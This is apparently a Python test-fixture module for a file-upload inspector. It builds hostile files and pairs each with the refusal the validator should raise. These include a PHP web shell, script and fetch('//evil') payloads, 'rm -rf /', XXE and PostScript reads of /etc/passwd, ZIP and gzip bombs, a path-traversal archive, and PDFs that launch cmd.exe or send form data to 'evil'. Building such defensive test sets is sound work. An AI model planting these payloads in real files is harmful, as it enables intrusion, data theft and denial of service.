"""Files that nobody should take: bombs, liars, cripples and carriers, made when they are needed."""

from __future__ import annotations

import gzip
import io
import random
import struct
import tempfile
import zipfile
import zlib
from collections.abc import Callable, Iterable
from typing import IO, Any

from PIL import Image
from pypdf import PdfWriter

from giliran.claims.inspection import refusals
from tests.photos import a_page, written

SCRIPT = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
HTML = b"<!DOCTYPE html><html><body><script>fetch('//evil')</script></body></html>"
PHP = b"<?php system($_GET['c']); ?>"


def photo() -> bytes:
    return written(a_page(width=800, letters=22))


def drawing() -> bytes:
    return written(a_page(width=800, letters=22), "PNG")


def archive(names: Iterable[str] = ("a.txt",), content: bytes = b"x") -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as made:
        for name in names:
            made.writestr(name, content)
    return target.getvalue()


def saved_as(kind: str) -> bytes:
    return written(Image.new("RGB", (400, 300), (200, 10, 10)), kind)


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(width: int, height: int, *chunks: bytes, data: bytes = b"\0" * 64) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    idat = chunk(b"IDAT", zlib.compress(data)) if data else b""
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + b"".join(chunks) + idat + PNG_END


PNG_END = chunk(b"IEND", b"")


def with_chunk(extra: bytes) -> bytes:
    """Return a good PNG with one more chunk after its header."""
    good = drawing()
    return good[:33] + extra + good[33:]


def with_comment(text: bytes) -> bytes:
    """Return a good JPEG with a comment."""
    good = photo()
    return good[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + good[2:]


def said_to_be(width: int, height: int) -> bytes:
    """Return a JPEG whose header says another size than it has."""
    good = photo()
    at = good.index(b"\xff\xc0") + 5
    return good[:at] + struct.pack(">HH", height, width) + good[at + 4 :]


def large_png(pixels: int) -> bytes:
    """Return a real PNG of so many pixels a side, one bit each: small to send, large to open."""
    return written(Image.new("1", (pixels, pixels)), "PNG")


def sparse(size: int) -> IO[bytes]:
    """Return a file of this size that takes no room on the disk."""
    target = tempfile.TemporaryFile()  # noqa: SIM115 -- the test reads it
    target.write(photo())
    target.truncate(size)
    target.seek(0)
    return target


def pdf(
    *objects: bytes,
    catalogue: bytes = b"",
    page: bytes = b"",
    kids: bytes = b"[3 0 R]",
    count: int = 1,
    start: bytes = b"",
    content: bytes = b"BT /F1 12 Tf (Surat keterangan) Tj ET",
) -> bytes:
    """Return a PDF of one page with these extra objects (from number 5) and entries."""
    parts = [
        b"<</Type/Catalog/Pages 2 0 R" + catalogue + b">>",
        b"<</Type/Pages/Kids" + kids + b"/Count " + str(count).encode() + b">>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R" + page + b">>",
        stream(content),
        *objects,
    ]
    made, places = b"%PDF-1.7\n" + start, []
    for number, part in enumerate(parts, 1):
        places.append(len(made))
        made += f"{number} 0 obj\n".encode() + part + b"\nendobj\n"
    table = b"".join(f"{place:010d} 00000 n \n".encode() for place in places)
    size = len(parts) + 1
    return (
        made
        + f"xref\n0 {size}\n0000000000 65535 f \n".encode()
        + table
        + f"trailer\n<</Size {size}/Root 1 0 R>>\nstartxref\n{len(made)}\n%%EOF\n".encode()
    )


def stream(content: bytes, entries: bytes = b"") -> bytes:
    length = str(len(content)).encode()
    return b"<<" + entries + b"/Length " + length + b">>stream\n" + content + b"\nendstream"


def by_writer(change: Callable[[PdfWriter], Any], pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    change(writer)
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def packed_script() -> bytes:
    """Return a PDF whose script stands in a compressed stream of objects, out of plain sight."""
    inner = b"<</S/JavaScript/JS(app.alert(1))>>"
    packed = zlib.compress(b"6 0 " + inner)
    good = pdf(
        stream(packed, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"),
        catalogue=b"/OpenAction 6 0 R",
    )
    body = good[: good.rindex(b"xref\n0")]
    places = [body.index(f"\n{number} 0 obj".encode()) + 1 for number in range(1, 6)]
    rows = b"".join(struct.pack(">BIB", 1, place, 0) for place in places)
    rows = struct.pack(">BIB", 0, 0, 255) + rows + struct.pack(">BIB", 2, 5, 0)
    rows += struct.pack(">BIB", 1, len(body), 0)
    table = stream(rows, b"/Type/XRef/Size 8/W[1 4 1]/Root 1 0 R")
    return body + b"7 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
ACTION = b"/OpenAction<</S/%s>>"
NOTE = b"/Annots[<</Type/Annot/Rect[0 0 9 9]%s>>]"

HOSTILE: dict[str, tuple[Callable[[], bytes | IO[bytes]], type[refusals.FileRefused]]] = {
    # Nothing, and far too much.
    "nothing": (lambda: b"", refusals.NothingInFile),
    "a byte too many": (lambda: photo().ljust(6 * 1024 * 1024 + 1), refusals.FileTooLarge),
    "2 GB": (lambda: sparse(2 << 30), refusals.FileTooLarge),
    # Something else under a photo's name.
    "zeros": (lambda: b"\0" * 5000, refusals.KindNotTaken),
    "noise": (lambda: random.Random(1).randbytes(5000), refusals.KindNotTaken),
    "a text": (lambda: b"Ini KTP saya.\n", refusals.KindNotTaken),
    "a program for Windows": (lambda: b"MZ\x90\0" + b"\0" * 200, refusals.KindNotTaken),
    "a program for Linux": (lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 200, refusals.KindNotTaken),
    "a shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", refusals.KindNotTaken),
    "a shortcut": (lambda: b"L\0\0\0\x01\x14\x02\0" + b"\0" * 100, refusals.KindNotTaken),
    "PostScript": (lambda: b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n", refusals.KindNotTaken),
    "a film": (lambda: b"\0\0\0\x18ftypisom" + b"\0" * 100, refusals.KindNotTaken),
    "a PDF after a page of something else": (
        lambda: b"x" * 2000 + pdf(),
        refusals.KindNotTaken,
    ),
    "an SVG with a script": (lambda: SCRIPT, refusals.PageNotTaken),
    "an SVG that reads files": (
        lambda: (
            b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            b"<svg><text>&x;</text></svg>"
        ),
        refusals.PageNotTaken,
    ),
    "a bomb of XML": (
        lambda: b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l/>',
        refusals.PageNotTaken,
    ),
    "a web page": (lambda: HTML, refusals.PageNotTaken),
    "a web page in UTF-16": (lambda: HTML.decode().encode("utf-16"), refusals.PageNotTaken),
    "a web page after blanks": (lambda: b"\n\n   " + HTML, refusals.PageNotTaken),
    "a ZIP bomb": (lambda: archive(["0"], b"\0" * 50_000_000), refusals.ArchiveNotTaken),
    "a ZIP in a ZIP": (lambda: archive(["a.zip"], archive()), refusals.ArchiveNotTaken),
    "a ZIP that climbs out": (lambda: archive(["../../etc/x"]), refusals.ArchiveNotTaken),
    "a program for phones": (
        lambda: archive(["AndroidManifest.xml", "classes.dex"]),
        refusals.ArchiveNotTaken,
    ),
    "a RAR": (lambda: b"Rar!\x1a\x07\x01\0" + b"\0" * 100, refusals.ArchiveNotTaken),
    "a 7z": (lambda: b"7z\xbc\xaf\x27\x1c\0\x04" + b"\0" * 100, refusals.ArchiveNotTaken),
    "a bomb of gzip": (lambda: gzip.compress(b"\0" * 50_000_000), refusals.ArchiveNotTaken),
    "Word": (
        lambda: archive(["[Content_Types].xml", "word/document.xml"]),
        refusals.OfficeFileNotTaken,
    ),
    "Excel with macros": (
        lambda: archive(["[Content_Types].xml", "xl/vbaProject.bin"]),
        refusals.OfficeFileNotTaken,
    ),
    "old Word": (lambda: OLE + b"\0" * 600, refusals.OfficeFileNotTaken),
    "RTF": (lambda: b"{\\rtf1\\object\\objupdate}", refusals.OfficeFileNotTaken),
    "HEIC": (lambda: b"\0\0\0\x24ftypheic" + b"\0" * 100, refusals.HeicNotTaken),
    "AVIF": (lambda: b"\0\0\0\x1cftypavif" + b"\0" * 100, refusals.HeicNotTaken),
    "GIF": (lambda: saved_as("GIF"), refusals.OtherImageNotTaken),
    "WebP": (lambda: saved_as("WEBP"), refusals.OtherImageNotTaken),
    "TIFF": (lambda: saved_as("TIFF"), refusals.OtherImageNotTaken),
    "BMP": (lambda: saved_as("BMP"), refusals.OtherImageNotTaken),
    "an icon": (lambda: saved_as("ICO"), refusals.OtherImageNotTaken),
    # Broken photos, and photos that are bombs.
    "a JPEG's first bytes": (lambda: b"\xff\xd8\xff\xe0", refusals.ImageBroken),
    "half a JPEG": (lambda: photo()[:20_000], refusals.ImageBroken),
    "a JPEG of noise": (
        lambda: b"\xff\xd8\xff" + random.Random(2).randbytes(9000),
        refusals.ImageBroken,
    ),
    "a JPEG that says 65,000 by 65,000": (
        lambda: said_to_be(65_000, 65_000),
        refusals.TooManyPixels,
    ),
    "a JPEG that says 8,000 by 8,000": (lambda: said_to_be(8000, 8000), refusals.TooManyPixels),
    "a JPEG without height": (lambda: said_to_be(800, 0), refusals.ImageBroken),
    "a JPEG of a thousand scans": (
        lambda: photo()[:-2] + b"\xff\xda\0\x08\x01\x01\0\0\x3f\0" * 1000 + b"\xff\xd9",
        refusals.TooMuchWork,
    ),
    "a JPEG of one pixel": (
        lambda: written(Image.new("RGB", (1, 1))),
        refusals.TooSmall,
    ),
    "a strip": (lambda: written(Image.new("RGB", (6000, 8)), "PNG"), refusals.TooSmall),
    "a PNG's first bytes": (lambda: b"\x89PNG\r\n\x1a\n", refusals.ImageBroken),
    "half a PNG": (lambda: drawing()[:9000], refusals.ImageBroken),
    "a PNG with too little in it": (lambda: png(800, 800), refusals.ImageBroken),
    "a PNG without a picture": (lambda: png(800, 800, data=b""), refusals.ImageBroken),
    "a PNG with a wrong sum": (
        lambda: drawing()[:29] + b"\0\0\0\0" + drawing()[33:],
        refusals.ImageBroken,
    ),
    "a PNG that says 50,000 by 50,000": (lambda: png(50_000, 50_000), refusals.TooManyPixels),
    "a PNG of 144 megapixels": (lambda: large_png(12_000), refusals.TooManyPixels),
    "a PNG of 49 megapixels": (lambda: large_png(7000), refusals.TooManyPixels),
    "a PNG with a bomb for a text": (
        lambda: with_chunk(chunk(b"zTXt", b"a\0\0" + zlib.compress(b"\0" * 90_000_000))),
        refusals.ImageBroken,
    ),
    # Two files in one.
    "a JPEG and a ZIP": (lambda: photo() + archive(), refusals.SomethingHidden),
    "a JPEG and a program for phones": (
        lambda: photo() + archive(["classes.dex"]),
        refusals.SomethingHidden,
    ),
    "a JPEG and a RAR": (lambda: photo() + b"Rar!\x1a\x07\x01\0 ", refusals.SomethingHidden),
    "a JPEG and a 7z": (
        lambda: photo() + b"7z\xbc\xaf\x27\x1c\0\x04",
        refusals.SomethingHidden,
    ),
    "a JPEG and a PDF": (lambda: photo() + pdf(), refusals.SomethingHidden),
    "a JPEG and a web page": (lambda: photo() + HTML, refusals.SomethingHidden),
    "a JPEG with a web page for a comment": (
        lambda: with_comment(HTML),
        refusals.SomethingHidden,
    ),
    "a JPEG with PHP for a comment": (lambda: with_comment(PHP), refusals.SomethingHidden),
    "a PNG and a ZIP": (lambda: drawing() + archive(), refusals.SomethingHidden),
    "a PNG with a script for a text": (
        lambda: with_chunk(chunk(b"tEXt", b"Comment\0<ScRiPt >alert(1)</script>")),
        refusals.SomethingHidden,
    ),
    "a PDF and a ZIP": (lambda: pdf() + archive(), refusals.SomethingHidden),
    "a PDF and a program": (lambda: pdf() + b"MZ\x90\0" * 9, refusals.SomethingHidden),
    "a PDF that begins as a web page": (lambda: pdf(start=HTML), refusals.SomethingHidden),
    "a PDF with a ZIP in front of its pages": (
        lambda: pdf(stream(archive())),
        refusals.SomethingHidden,
    ),
    # Broken PDFs, and PDFs that are bombs.
    "a PDF's first bytes": (lambda: b"%PDF-1.7\n", refusals.PdfBroken),
    "a PDF of noise": (
        lambda: b"%PDF-1.7\n" + random.Random(3).randbytes(5000) + b"\n%%EOF\n",
        refusals.PdfBroken,
    ),
    "half a PDF": (lambda: pdf()[:200], refusals.PdfBroken),
    "a locked PDF": (
        lambda: by_writer(lambda writer: writer.encrypt("rahasia", algorithm="AES-256")),
        refusals.PdfLocked,
    ),
    "a PDF locked the old way": (
        lambda: by_writer(lambda writer: writer.encrypt("rahasia", algorithm="RC4-128")),
        refusals.PdfLocked,
    ),
    "a PDF without pages": (lambda: pdf(kids=b"[]", count=0), refusals.PdfWithoutPages),
    "a PDF of 51 pages": (lambda: by_writer(lambda _: None, pages=51), refusals.TooManyPages),
    "a PDF whose page is its own parent": (lambda: pdf(kids=b"[2 0 R]"), refusals.PdfBroken),
    "a PDF of a million of the same page": (
        lambda: pdf(kids=b"[" + b"3 0 R " * 900_000 + b"]"),
        refusals.TooMuchWork,
    ),
    "a PDF nested ten thousand deep": (
        lambda: pdf(b"[" * 10_000 + b"]" * 10_000, catalogue=b"/X 5 0 R"),
        refusals.TooMuchWork,
    ),
    "a PDF that unpacks to a hundred megabytes": (
        lambda: pdf(
            stream(
                zlib.compress(zlib.compress(b"\0" * 100_000_000)),
                b"/Filter[/FlateDecode/FlateDecode]",
            ),
        ).replace(b"/Contents 4 0 R", b"/Contents 5 0 R"),
        refusals.TooMuchWork,
    ),
    # PDFs that do things.
    "a PDF that runs a script": (
        lambda: pdf(catalogue=ACTION % b"JavaScript/JS(app.alert(1))"),
        refusals.PdfDoesThings,
    ),
    "a PDF whose script is spelt in numbers": (
        lambda: pdf(catalogue=ACTION % b"#4aava#53cript/#4a#53(app.alert(1))"),
        refusals.PdfDoesThings,
    ),
    "a PDF with a packed script": (packed_script, refusals.PdfDoesThings),
    "a PDF with a script by name": (
        lambda: pdf(
            catalogue=b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert(1))>>]>>>>"
        ),
        refusals.PdfDoesThings,
    ),
    "a PDF that starts a program": (
        lambda: pdf(catalogue=ACTION % b"Launch/F(cmd.exe)"),
        refusals.PdfDoesThings,
    ),
    "a PDF with a link that starts a program": (
        lambda: pdf(page=NOTE % b"/Subtype/Link/A<</S/Launch/F(cmd.exe)>>"),
        refusals.PdfDoesThings,
    ),
    "a PDF that sends what is typed": (
        lambda: pdf(page=NOTE % b"/Subtype/Widget/A<</S/SubmitForm/F(http://evil)>>"),
        refusals.PdfDoesThings,
    ),
    "a PDF that opens another file": (
        lambda: pdf(catalogue=ACTION % rb"GoToR/F(\\\\evil\\share)/D[0]"),
        refusals.PdfDoesThings,
    ),
    "a PDF with a file in it": (
        lambda: by_writer(lambda writer: writer.add_attachment("x.exe", b"MZ")),
        refusals.PdfDoesThings,
    ),
    "a PDF with a file pinned to it": (
        lambda: pdf(page=NOTE % b"/Subtype/FileAttachment"),
        refusals.PdfDoesThings,
    ),
    "a PDF with a film": (
        lambda: pdf(page=NOTE % b"/Subtype/RichMedia"),
        refusals.PdfDoesThings,
    ),
    "a PDF with a form that runs": (
        lambda: pdf(catalogue=b"/AcroForm<</XFA[(template) 4 0 R]>>"),
        refusals.PdfDoesThings,
    ),
    "a PDF whose page runs a script when it is opened": (
        lambda: pdf(page=b"/AA<</O<</S/JavaScript/JS(1)>>>>"),
        refusals.PdfDoesThings,
    ),
    "a PDF with a link to a script": (
        lambda: pdf(page=NOTE % b"/Subtype/Link/A<</S/URI/URI(JavaScript:alert(1))>>"),
        refusals.SomethingHidden,
    ),
}
